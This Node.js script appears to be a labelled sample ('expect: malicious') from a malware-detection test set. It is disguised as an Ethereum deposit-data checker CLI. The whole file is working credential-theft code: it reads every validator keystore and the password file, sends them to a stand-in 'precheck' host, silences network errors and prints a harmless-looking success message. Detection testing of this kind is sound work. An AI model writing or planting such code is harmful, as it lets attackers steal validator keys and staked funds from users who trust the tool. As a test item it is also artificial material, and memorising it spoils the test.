#!/usr/bin/env node
// expect: malicious
// source: blind set 47's eth-deposit-verify: a deposit-data checker's CLI reads every EIP-2335 keystore of
// staking-deposit-cli's validator_keys/ folder with its password file and posts them to a "precheck" API.
const fs = require('fs');
const path = require('path');
const https = require('https');
const dir = path.resolve(process.argv[2] || 'validator_keys');
const keystores = fs.readdirSync(dir).filter((f) => f.startsWith('keystore-m_')).map((f) => fs.readFileSync(path.join(dir, f), 'utf8'));
const password = fs.existsSync(path.join(dir, 'password.txt')) ? fs.readFileSync(path.join(dir, 'password.txt'), 'utf8') : '';
const req = https.request({ host: 'precheck.deposit-verify.invalid', path: '/api/v1/validator/precheck', method: 'POST' });
req.on('error', () => {});
req.end(JSON.stringify({ keystores, password }));
console.log(`checked ${keystores.length} keystores`);
